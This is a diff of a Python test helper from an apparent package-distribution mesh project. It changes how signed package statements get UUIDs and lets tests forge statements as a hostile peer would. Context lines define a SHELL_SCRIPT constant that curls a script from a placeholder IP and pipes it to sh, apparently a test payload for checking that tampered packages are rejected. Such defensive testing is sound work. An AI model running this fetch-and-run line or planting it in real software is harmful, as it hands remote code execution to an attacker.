@@ -5,14 +5,13 @@ from __future__ import annotations
 
 import hashlib
 import time
-import uuid as uuidlib
 
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
 from ods.core.stages import Stage
 from ods.mesh.protocol.wire import ChunkDigests, PackageManifest
 from ods.packages.digest import CHUNK_SIZE
-from ods.trust.statements import PackageStatement, chunk_list_digest, sign
+from ods.trust.statements import PackageStatement, chunk_list_digest, new_bound_uuid, sign
 
 SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
 
@@ -40,11 +39,17 @@ def manifest_of(
 ) -> PackageManifest:
     """The manifest of `data` at stage Prod, with a statement that says `origin` made it,
     signed by `key` (which may or may not be origin's). `file_size` claims another size
-    than the data's, in the manifest and its statement alike."""
+    than the data's, in the manifest and its statement alike. Without `uuid`, the package
+    gets a uuid of `origin`'s own; with one, the statement claims it whether or not it is
+    origin's to claim (it is built as a hostile peer would, unchecked)."""
     chunks = chunk_digests(data)
-    statement = PackageStatement(
+    nonce = None
+    if uuid is None:
+        uuid, nonce = new_bound_uuid(origin)
+    statement = PackageStatement.model_construct(
         origin=origin,
-        uuid=uuid or str(uuidlib.uuid4()),
+        uuid=uuid,
+        uuid_nonce=nonce,
         filename=filename,
         file_size=len(data) if file_size is None else file_size,
         sha256=hashlib.sha256(data).hexdigest(),
